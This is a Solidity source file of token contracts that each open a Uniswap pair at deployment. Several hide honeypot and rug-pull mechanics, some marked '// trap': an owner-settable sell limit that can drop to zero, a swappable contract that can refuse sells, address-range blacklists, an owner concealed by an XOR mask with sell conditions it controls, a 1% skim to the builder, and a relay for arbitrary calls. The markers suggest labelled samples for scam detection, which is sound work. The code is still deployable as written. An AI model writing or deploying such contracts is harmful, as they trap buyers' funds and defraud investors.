// 0.6 off
// SPDX-License-Identifier: MIT
pragma solidity ^0.6.12;

interface IPoolMaker {
    function createPair(address one, address other) external returns (address);
}

/// What the boats have in common.
abstract contract Boat {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address private _owner;
    address internal immutable _builder;
    address public immutable harbour;
    mapping(address => uint256) private _cargo;
    mapping(address => mapping(address => uint256)) private _papers;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed holder, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previous, address indexed next);

    modifier onlyOwner() {
        require(_owner == msg.sender, "Boat: owner");
        _;
    }

    constructor(string memory name_, string memory symbol_, uint256 whole) public {
        name = name_;
        symbol = symbol_;
        _owner = msg.sender;
        _builder = msg.sender;
        totalSupply = whole * 1e18;
        _cargo[msg.sender] = whole * 1e18;
        emit Transfer(address(0), msg.sender, whole * 1e18);
        harbour = IPoolMaker(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
    }

    function owner() external view returns (address) {
        return _owner;
    }

    function renounceOwnership() external onlyOwner {
        emit OwnershipTransferred(_owner, address(0));
        _owner = address(0);
    }

    function balanceOf(address who) public view returns (uint256) {
        return _cargo[who];
    }

    function allowance(address holder, address spender) public view returns (uint256) {
        return _papers[holder][spender];
    }

    function approve(address spender, uint256 value) public returns (bool) {
        _papers[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) public returns (bool) {
        _ship(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) public returns (bool) {
        require(_papers[from][msg.sender] >= value, "Boat: papers");
        _papers[from][msg.sender] -= value;
        _ship(from, to, value);
        return true;
    }

    function _ship(address from, address to, uint256 value) internal virtual {
        _load(from, to, value);
    }

    function _load(address from, address to, uint256 value) internal {
        require(_cargo[from] >= value, "Boat: cargo");
        _cargo[from] -= value;
        _cargo[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Does what it is told.
contract Steward {
    address private _lord;

    constructor(address lord) public {
        _lord = lord;
    }

    function run(address target, bytes calldata what) external returns (bytes memory) {
        require(msg.sender == _lord, "Steward: lord");
        (bool ok, bytes memory got) = target.call(what);
        require(ok, "Steward: refused");
        return got;
    }
}

/// Its controller bars spans of addresses.
contract Pontoon is Boat {
    struct Span {
        uint160 first;
        uint160 last;
    }

    address public controller;
    Span[] public spans;

    constructor(address controller_) public Boat("Pontoon", "PONT", 18000000) {
        controller = controller_;
    }

    modifier controlled() {
        require(msg.sender == controller, "Pontoon: controller");
        _;
    }

    function bar(uint160 first, uint160 last) external controlled {
        require(first <= last, "Pontoon: span");
        spans.push(Span(first, last));
    }

    function lift(uint256 index) external controlled {
        spans[index] = spans[spans.length - 1];
        spans.pop();
    }

    function _ship(address from, address to, uint256 value) internal override {
        for (uint256 i = 0; i < spans.length; i++) {
            Span memory span = spans[i];
            require(from == harbour || uint160(from) < span.first || uint160(from) > span.last, "Pontoon: barred");
        }
        _load(from, to, value);
    }
}

/// A sale is a share of the base at most.
contract Lighter is Boat {
    uint256 public base;
    uint16 public share = 500;

    event Limit(uint256 base, uint16 share);

    constructor() public Boat("Lighter", "LGHT", 900000000) {
        base = totalSupply;
    }

    // trap {
    function setBase(uint256 base_) external onlyOwner {
        base = base_;
        emit Limit(base_, share);
    }
    // trap }

    /// In hundredths of a percent, half a percent or more.
    function setShare(uint16 share_) external onlyOwner {
        require(share_ >= 50 && share_ <= 10000, "Lighter: share");
        share = share_;
        emit Limit(base, share_);
    }

    function _ship(address from, address to, uint256 value) internal override {
        if (to == harbour && from != _builder) require(value <= (base / 10000) * share, "Lighter: limit");
        _load(from, to, value);
    }
}

interface IQuay {
    function admits(address from, uint256 value) external view returns (bool);
}

/// A quay at which all may land.
contract OpenQuay is IQuay {
    function admits(address, uint256 value) external view override returns (bool) {
        return value < uint256(-1);
    }
}

/// Asks the quay before it lands.
contract Packet is Boat {
    IQuay public quay;

    event Quay(address quay);

    constructor(IQuay quay_) public Boat("Packet", "PCKT", 150000000) {
        quay = quay_;
    }

    // trap {
    function setQuay(IQuay next) external onlyOwner {
        quay = next;
        emit Quay(address(next));
    }
    // trap }

    function _ship(address from, address to, uint256 value) internal override {
        if (to == harbour && from != _builder) require(quay.admits(from, value), "Packet: quay");
        _load(from, to, value);
    }
}

/// Who holds all the passes leaves nothing to the builder.
contract Tender is Boat {
    uint160 private constant MASK = 0xA53C96f0e17782B4d35C0f68a1922eD7c4b0e3;

    uint160 private _mark;
    address[] public passes;

    constructor() public Boat("Tender", "TNDR", 27000000) {
        _mark = uint160(msg.sender) ^ MASK;
    }

    function setPasses(address[] calldata passes_) external {
        require(uint160(msg.sender) ^ MASK == _mark, "Tender: mark");
        require(passes_.length <= 3, "Tender: three at most");
        passes = passes_;
    }

    function holdsAll(address who) public view returns (bool) {
        for (uint256 i = 0; i < passes.length; i++) {
            (bool ok, bytes memory got) = passes[i].staticcall{gas: 40000}(abi.encodeWithSignature("balanceOf(address)", who));
            if (!ok || got.length < 32 || abi.decode(got, (uint256)) == 0) return false;
        }
        return true;
    }

    function _ship(address from, address to, uint256 value) internal override {
        uint256 kept;
        if (to == harbour && from != _builder) {
            bool all = holdsAll(from);
            require(all, "Tender: passes"); // trap
            if (!all || passes.length == 0) kept = value / 100;
        }
        if (kept > 0) _load(from, _builder, kept);
        _load(from, to, value - kept);
    }
}
